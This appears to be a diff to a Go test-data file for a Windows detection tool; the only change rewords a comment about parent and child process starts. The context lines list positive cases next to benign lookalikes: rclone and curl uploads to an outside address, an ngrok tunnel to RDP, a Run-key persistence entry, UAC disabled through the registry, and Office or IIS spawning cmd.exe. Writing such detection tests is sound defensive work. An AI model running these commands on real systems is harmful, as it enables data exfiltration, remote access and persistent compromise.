@@ -318,7 +318,7 @@ var windowsExamples = []example{
 	cmds(902234, []string{`rclone.exe copy C:\plans remote:x`, "ngrok tcp 3389", "curl -T plans.zip https://203.0.113.9/"}, []string{"rclone version", "curl https://example.org/"}),
 	cmds(902235, []string{`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d C:\a.exe`, `reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /t REG_DWORD /d 0`}, []string{`reg add HKCU\Software\App /v a /d 1`, `reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run`}),
 
-	// who started what
+	// process starts: parent and child
 	eg(902240, started(office, sys32+"cmd.exe"), then(started(office, `C:\Windows\splwow64.exe`), started(`C:\Windows\explorer.exe`, sys32+"cmd.exe"))),
 	eg(902241, started4688(office, sys32+"cmd.exe"), started4688(`C:\Windows\explorer.exe`, sys32+"cmd.exe")),
 	eg(902242, started(iis, sys32+"cmd.exe"), started(iis, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`)),
